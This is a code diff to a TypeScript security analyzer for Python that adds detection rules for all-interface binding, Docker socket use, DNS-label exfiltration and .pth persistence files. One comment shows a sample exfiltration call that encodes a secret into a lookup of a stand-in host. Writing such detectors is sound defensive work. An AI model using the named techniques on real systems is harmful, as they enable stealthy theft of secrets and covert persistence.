@@ -46,6 +46,12 @@ export function checkNetwork(ctx: PyContext, c: CallInfo): void {
     const loopback = addr !== undefined && /^(localhost|127\.\d+\.\d+\.\d+|::1)$/.test(addr);
     ctx.add(c.node, "network", loopback ? "medium" : "high", loopback ? "socket-connect-local" : "socket-connect", `a raw socket connects to ${addr ? `"${addr}"` : "an address"}`, "Use an HTTP client through the configured proxy; raw connections are how reverse shells start.");
   }
+  if (/^(socketserver\.(Threading|Forking)?(TCP|UDP)Server|http\.server\.(Threading)?HTTPServer)$/.test(q) && ["", "::"].includes(c.pos[0]?.items?.[0]?.s ?? "-")) {
+    ctx.add(c.node, "network", "medium", "bind-all", `${q} listens on every network interface`, "Bind 127.0.0.1 unless the service must be reachable from outside.");
+  }
+  if (anyArg(c, (v) => /(^|[/:])(var\/)?run\/docker\.sock$|%2Fdocker\.sock/i.test(v.s ?? v.t ?? ""))) {
+    ctx.add(c.node, "privilege", "high", "docker-socket", `${q || "this call"} uses the Docker socket, which gives root on the host`, "Do not use the Docker socket from sandboxed code.");
+  }
   if (/^socket\.socket\(\)\.bind$/.test(q)) {
     const host = c.pos[0]?.items?.[0]?.s;
     if (host === "0.0.0.0" || host === "" || host === "::") ctx.add(c.node, "network", "medium", "bind-all", "a socket binds every network interface", "Bind 127.0.0.1 unless the service must be reachable from outside.");
@@ -58,11 +64,18 @@ export function checkNetwork(ctx: PyContext, c: CallInfo): void {
   }
   if (q === "telnetlib.Telnet" || q === "ftplib.FTP") ctx.add(c.node, "network", "medium", "cleartext-protocol", `${q} sends data and passwords in clear text`, "Use SSH/SFTP or TLS.");
   // Binding every interface by a literal address anywhere (app.run("0.0.0.0"), serve(("0.0.0.0", 80))).
-  if (!/^socket/.test(q) && c.kwNodes.get("host") === undefined && anyArg(c, (v) => v.s === "0.0.0.0" || v.items?.[0]?.s === "0.0.0.0")) {
+  if (!/^socket\./.test(q) && c.kwNodes.get("host") === undefined && anyArg(c, (v) => v.s === "0.0.0.0" || v.items?.[0]?.s === "0.0.0.0")) {
     ctx.add(c.node, "network", "medium", "bind-all", `${q || "a server"} uses the address 0.0.0.0 (every interface)`, "Bind 127.0.0.1 unless the service must be reachable from outside.");
   }
   if (c.kwNodes.get("debug")?.text === "True" && /\.run$/.test(q || (c.fnNode?.text ?? "")) && /app|flask|Flask/.test(c.fnNode?.text ?? "")) {
     ctx.add(c.node, "code-exec", "medium", "debug-server", "the web app runs with debug=True, whose debugger console runs any code sent to it", "Turn debug off outside local development.");
+  }
+  // Data smuggled out as the labels of a DNS name (`socket.gethostbyname(f"{b32(secret)}.x.example")`).
+  if (/^socket\.(gethostbyname|gethostbyname_ex|getaddrinfo)$|^dns\.resolver\.(resolve|query)$|^dns\.resolver\.Resolver\(\)\.(resolve|query)$/.test(q) && c.pos[0] && c.pos[0].s === undefined) {
+    const name = c.pos[0];
+    const labelled = /^[^.]*\u0000[^.]*\.[A-Za-z0-9-]+\.[A-Za-z]/.test(name.t ?? "") || /^[^"'.]+\+\s*["']\.[A-Za-z0-9-]+\./.test(c.posNodes[0]?.text ?? "");
+    if (name.secret || name.env) ctx.add(c.node, "exfiltration", name.secret ? "critical" : "high", "dns-exfil", `${q} looks up a host name built from ${name.secret ?? `the environment variable ${name.env}`}, sending it out over DNS`, "Look up fixed host names; never put data into DNS names.");
+    else if (labelled || name.decoded) ctx.add(c.node, "exfiltration", "medium", "dns-label-data", `${q} looks up a host name whose first label is data`, "Look up fixed host names; never put data into DNS names.");
   }
   // Sending data out.
   if (SENDERS.test(q)) {
@@ -173,6 +186,10 @@ export function checkFilesystem(ctx: PyContext, c: CallInfo): void {
       ctx.add(c.node, "exfiltration", "high", "list-credentials", `${q} lists the credentials directory "${dir}"`, "Do not read keys or credentials from sandboxed code.");
     }
     return;
+  }
+  // A .pth file in site-packages runs its import lines at every interpreter start.
+  if ((WRITE_MODE.test(mode) && /\.pth$/.test(path ?? "")) || /\.pth["']\s*\)?\s*\.(write_text|write_bytes)$/.test(c.fnNode?.text ?? "")) {
+    ctx.add(c.node, "persistence", "critical", "pth-write", `${q} writes a .pth file, whose import lines run every time Python starts`, "Do not write .pth files; install packages through the package manager.");
   }
   if (path === undefined) return;
   const writing = WRITE_MODE.test(mode);
